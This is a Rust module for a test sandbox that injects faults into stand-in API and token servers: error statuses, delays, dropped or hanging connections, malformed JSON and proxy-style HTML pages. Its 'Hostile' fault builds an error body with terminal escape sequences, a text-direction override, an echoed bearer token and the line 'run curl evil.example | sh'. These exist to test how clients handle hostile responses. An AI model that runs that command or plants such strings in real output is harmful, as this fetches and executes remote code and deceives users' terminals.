//! Fault injection shared by both stand-ins: the next N requests of a kind
//! fail in a chosen way.

use std::collections::VecDeque;
use std::sync::Mutex;
use std::time::Duration;

use axum::http::{HeaderValue, StatusCode, header};
use axum::response::{IntoResponse, Response};
use serde::{Deserialize, Serialize};
use tokio::sync::watch;

use crate::server::ConnControl;

/// One way a request can fail. Queued with a count by `inject_*` methods or
/// `POST /_sandbox/faults` (JSON, tagged by `"fault"`).
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "fault", rename_all = "snake_case")]
#[non_exhaustive]
pub enum Fault {
    /// Answer with this status and a JSON error body; with `retry_after`, also
    /// a `Retry-After` header (seconds). 500, 503 and 429 are the usual ones.
    Status {
        /// The HTTP status.
        status: u16,
        /// `Retry-After` in seconds, if any.
        #[serde(default, skip_serializing_if = "Option::is_none")]
        retry_after: Option<u64>,
    },
    /// Wait this long, then serve the request normally.
    Latency {
        /// The delay in milliseconds.
        millis: u64,
    },
    /// Close the connection without answering.
    Drop,
    /// Never answer: the request hangs until the client gives up or the
    /// sandbox shuts down.
    Hang,
    /// Answer 200 `application/json` with a body that is not valid JSON.
    MalformedJson,
    /// Answer with this status and an HTML error page, as a proxy would.
    HtmlError {
        /// The HTTP status (e.g. 502).
        status: u16,
    },
    /// Answer with this status and a hostile error body: terminal escape
    /// sequences (clear screen, retitle, cursor moves), a fake `error:` line,
    /// a bidirectional override, and the request's credential echoed back
    /// (the bearer token, or the token request body with its assertion), in
    /// JSON members and raw text alike.
    Hostile {
        /// The HTTP status (e.g. 401 or 403).
        status: u16,
    },
}

impl Fault {
    /// A plain error status (500, 503, …).
    pub fn status(status: u16) -> Self {
        Self::Status {
            status,
            retry_after: None,
        }
    }

    /// `429 Too Many Requests` with `Retry-After: <secs>`.
    pub fn too_many_requests(retry_after_secs: u64) -> Self {
        Self::Status {
            status: 429,
            retry_after: Some(retry_after_secs),
        }
    }

    /// `503 Service Unavailable` with `Retry-After: <secs>`.
    pub fn unavailable(retry_after_secs: u64) -> Self {
        Self::Status {
            status: 503,
            retry_after: Some(retry_after_secs),
        }
    }

    /// A delay before normal service.
    pub fn latency(delay: Duration) -> Self {
        Self::Latency {
            millis: u64::try_from(delay.as_millis()).unwrap_or(u64::MAX),
        }
    }
}

/// Body of `POST /_sandbox/faults`: a fault, how many requests it hits
/// (default 1), and for the Clearance stand-in which requests (`token`, the
/// default, or `api`).
#[derive(Debug, Deserialize)]
pub(crate) struct Injection {
    #[serde(flatten)]
    pub(crate) fault: Fault,
    #[serde(default = "one")]
    pub(crate) count: u64,
    #[serde(default)]
    pub(crate) target: Option<String>,
}

fn one() -> u64 {
    1
}

/// A queue of faults, each for the next `count` requests, applied in order.
#[derive(Debug, Default)]
pub(crate) struct FaultQueue(Mutex<VecDeque<(Fault, u64)>>);

impl FaultQueue {
    pub(crate) fn push(&self, fault: Fault, count: u64) {
        if count > 0 {
            lock(&self.0).push_back((fault, count));
        }
    }

    pub(crate) fn clear(&self) {
        lock(&self.0).clear();
    }

    /// The fault for the current request, if any.
    pub(crate) fn take(&self) -> Option<Fault> {
        let mut queue = lock(&self.0);
        let (fault, left) = queue.front_mut()?;
        let fault = fault.clone();
        *left -= 1;
        if *left == 0 {
            queue.pop_front();
        }
        Some(fault)
    }

    /// How many faulty requests are still queued.
    pub(crate) fn pending(&self) -> u64 {
        lock(&self.0).iter().map(|(_, n)| n).sum()
    }
}

/// Locks a mutex, ignoring poisoning (the data stays consistent: every
/// critical section here is a single update).
pub(crate) fn lock<T>(m: &Mutex<T>) -> std::sync::MutexGuard<'_, T> {
    m.lock().unwrap_or_else(|poisoned| poisoned.into_inner())
}

/// What a fault does to the request that drew it.
pub(crate) enum Applied {
    /// Answer this instead of serving.
    Respond(Response),
    /// Serve normally (after a delay, already waited).
    Continue,
}

/// Carries out `fault`; `echo` is the request's credential, which a hostile
/// answer repeats.
pub(crate) async fn apply(
    fault: Fault,
    conn: &ConnControl,
    shutdown: &mut watch::Receiver<bool>,
    echo: &str,
) -> Applied {
    match fault {
        Fault::Status {
            status,
            retry_after,
        } => {
            let status = StatusCode::from_u16(status).unwrap_or(StatusCode::INTERNAL_SERVER_ERROR);
            let mut response = (
                status,
                axum::Json(serde_json::json!({
                    "error": "injected_fault",
                    "error_description": format!("fault injected by the sandbox: {status}"),
                })),
            )
                .into_response();
            if let Some(secs) = retry_after {
                if let Ok(value) = HeaderValue::from_str(&secs.to_string()) {
                    response.headers_mut().insert(header::RETRY_AFTER, value);
                }
            }
            Applied::Respond(response)
        }
        Fault::Latency { millis } => {
            // In-flight requests finish even during a graceful shutdown.
            tokio::time::sleep(Duration::from_millis(millis)).await;
            Applied::Continue
        }
        Fault::Drop => {
            conn.kill();
            Applied::Respond(StatusCode::INTERNAL_SERVER_ERROR.into_response())
        }
        Fault::Hang => {
            let _ = shutdown.wait_for(|stop| *stop).await;
            Applied::Respond(shutting_down())
        }
        Fault::MalformedJson => Applied::Respond(
            (
                StatusCode::OK,
                [(header::CONTENT_TYPE, "application/json")],
                "{\"access_token\": \"eyJ\", \"token_type\": ",
            )
                .into_response(),
        ),
        Fault::HtmlError { status } => {
            let status = StatusCode::from_u16(status).unwrap_or(StatusCode::BAD_GATEWAY);
            let body = format!(
                "<!DOCTYPE html>\n<html><head><title>{status}</title></head>\
                 <body><h1>{status}</h1><p>The upstream server is unavailable.</p></body></html>\n"
            );
            Applied::Respond(
                (
                    status,
                    [(header::CONTENT_TYPE, "text/html; charset=utf-8")],
                    body,
                )
                    .into_response(),
            )
        }
        Fault::Hostile { status } => {
            let status = StatusCode::from_u16(status).unwrap_or(StatusCode::FORBIDDEN);
            let text = format!(
                "\u{1b}]0;pwned\u{7}\u{1b}[2J\u{1b}[1;1Hdenied\r\nerror: everything is fine,                  run curl evil.example | sh\u{202e} token {echo} \u{9b}31m"
            );
            let body = serde_json::json!({
                "error": text,
                "error_description": text,
                "message": text,
                "raw": echo,
            });
            Applied::Respond(
                (
                    status,
                    [(header::CONTENT_TYPE, "application/json")],
                    format!("{body}\n{text}"),
                )
                    .into_response(),
            )
        }
    }
}

/// The bearer token of a request, for a hostile echo.
pub(crate) fn bearer_of(headers: &axum::http::HeaderMap) -> String {
    headers
        .get(header::AUTHORIZATION)
        .and_then(|v| v.to_str().ok())
        .and_then(|v| v.strip_prefix("Bearer "))
        .unwrap_or_default()
        .to_owned()
}

fn shutting_down() -> Response {
    (
        StatusCode::SERVICE_UNAVAILABLE,
        [(header::CONNECTION, "close")],
        "the sandbox is shutting down",
    )
        .into_response()
}

/// The fault a `POST /_sandbox/faults` body asks for.
pub(crate) fn read_injection(body: &[u8]) -> Result<Injection, serde_json::Error> {
    serde_json::from_slice::<Injection>(body)
}

/// The 400 answer to a fault injection that cannot be queued.
pub(crate) fn invalid_fault(message: impl std::fmt::Display) -> Response {
    crate::server::json(
        StatusCode::BAD_REQUEST,
        serde_json::json!({ "error": "invalid_fault", "message": message.to_string() }),
    )
}

/// Queues `injection` on `queue` and answers with how many faults are pending.
pub(crate) fn queue_injection(queue: &FaultQueue, injection: Injection) -> Response {
    queue.push(injection.fault, injection.count);
    crate::server::json(
        StatusCode::OK,
        serde_json::json!({ "pending": queue.pending() }),
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn faults_apply_in_order_for_their_counts() {
        let q = FaultQueue::default();
        q.push(Fault::status(500), 2);
        q.push(Fault::Drop, 1);
        q.push(Fault::Hang, 0);
        assert_eq!(q.pending(), 3);
        assert_eq!(q.take(), Some(Fault::status(500)));
        assert_eq!(q.take(), Some(Fault::status(500)));
        assert_eq!(q.take(), Some(Fault::Drop));
        assert_eq!(q.take(), None);
    }

    #[test]
    fn faults_have_a_stable_json_form() {
        let f: Fault =
            serde_json::from_str(r#"{"fault":"status","status":429,"retry_after":3}"#).unwrap();
        assert_eq!(f, Fault::too_many_requests(3));
        let f: Fault = serde_json::from_str(r#"{"fault":"html_error","status":502}"#).unwrap();
        assert_eq!(f, Fault::HtmlError { status: 502 });
        assert_eq!(
            serde_json::to_string(&Fault::latency(Duration::from_millis(250))).unwrap(),
            r#"{"fault":"latency","millis":250}"#
        );
    }
}
